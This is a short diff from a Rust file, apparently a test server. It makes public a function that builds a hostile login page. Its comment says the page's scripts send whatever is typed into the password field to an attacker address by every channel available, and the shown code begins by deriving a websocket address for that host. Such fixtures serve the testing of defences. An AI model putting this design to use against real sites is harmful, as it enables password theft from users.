@@ -34,7 +34,7 @@ fn script(source: String) -> impl IntoResponse {
 
 /// The login page: a plain form, and scripts that send what is typed into the password field
 /// to `attacker` in every way a page has. The workers are the site's own scripts.
-fn hostile_login_page(attacker: &str) -> Html<String> {
+pub(crate) fn hostile_login_page(attacker: &str) -> Html<String> {
     let socket = attacker.replacen("http://", "ws://", 1);
     Html(format!(
         r#"<form method="post" action="/accounts/login/"><input name="username">
